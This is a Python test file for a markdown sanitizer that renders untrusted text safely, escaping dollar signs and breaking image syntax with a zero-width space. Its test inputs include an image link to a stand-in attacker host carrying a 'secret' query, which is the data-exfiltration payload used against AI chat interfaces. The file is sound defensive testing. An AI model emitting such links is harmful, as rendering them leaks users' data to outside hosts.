"""What strangers wrote, drawn without doing what they want."""

from __future__ import annotations

import pytest

from lab.ui import parts

APART = "!\u200b["


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("**Bold** and [a link](https://a.example)", "**Bold** and [a link](https://a.example)"),
        ("It costs $5 or $10.", "It costs \\$5 or \\$10."),
        ("Run `echo $HOME` for $1", "Run `echo $HOME` for \\$1"),
        ("```sh\necho $HOME\n```\n$1", "```sh\necho $HOME\n```\n\\$1"),
        ("```sh\necho $HOME", "```sh\necho $HOME"),
        ("![x](https://evil.example/?q=secret)", f"{APART}x](https://evil.example/?q=secret)"),
        ("`![x](u)`", f"`{APART}x](u)`"),
        ("<div>\n```\n\n![x](u)", f"<div>\n```\n\n{APART}x](u)"),
        ("![x]\n\n[x]: https://evil.example", f"{APART}x]\n\n[x]: https://evil.example"),
        ("let v = vec![1, 2];", "let v = vec![1, 2];"),
        ("", ""),
    ],
)
def test_words(text: str, drawn: str) -> None:
    assert parts.words(text) == drawn


def test_what_a_person_typed_is_not_formatted() -> None:
    assert parts.typed("*a*\n[b](c)") == "\\*a\\*  \n\\[b\\]\\(c\\)"
